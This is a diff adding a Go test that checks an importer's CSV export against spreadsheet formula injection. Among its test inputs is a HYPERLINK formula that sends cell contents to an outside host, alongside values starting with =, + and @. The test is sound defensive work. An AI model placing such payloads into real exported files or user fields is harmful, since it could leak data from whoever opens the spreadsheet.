@@ -1,6 +1,7 @@
 package importer_test
 
 import (
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"io"
@@ -346,6 +347,43 @@ key all of alice for []
 key b of alice for [b.example.org]
 key odd,name of alice for []
 key some of alice for [a.example.org]
+`)
+}
+
+// TestAListIsNoFormula: what customers have chosen is text for a spreadsheet that opens the
+// list, and is read as they wrote it.
+func TestAListIsNoFormula(t *testing.T) {
+	t.Parallel()
+	h := &importer.House{Accounts: []api.Account{{Name: "alice", Email: "=1+1@example.org"}, {Name: "bob", Email: "'a@example.org"}}}
+	for _, username := range []string{`=HYPERLINK("//www.example.org/"&A1)`, "+1", "-1", "@SUM(A1)", "'quoted", "''twice"} {
+		h.Keys = append(h.Keys, api.Key{Account: "alice", Username: username})
+	}
+	var list strings.Builder
+	if err := h.WriteCSV(&list); err != nil {
+		t.Fatal(err)
+	}
+	fields, err := csv.NewReader(strings.NewReader(list.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, field := range slices.Concat(fields...) {
+		if field != "" && strings.ContainsAny(field[:1], "=+-@") {
+			t.Errorf("%s is a formula", field)
+		}
+	}
+	p, err := importer.ReadCSV("list", strings.NewReader(list.String()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	wantPlan(t, "what was written is read again", p, `
+account alice =1+1@example.org
+account bob 'a@example.org
+key =HYPERLINK("//www.example.org/"&A1) of alice for []
+key +1 of alice for []
+key -1 of alice for []
+key @SUM(A1) of alice for []
+key 'quoted of alice for []
+key ''twice of alice for []
 `)
 }
 
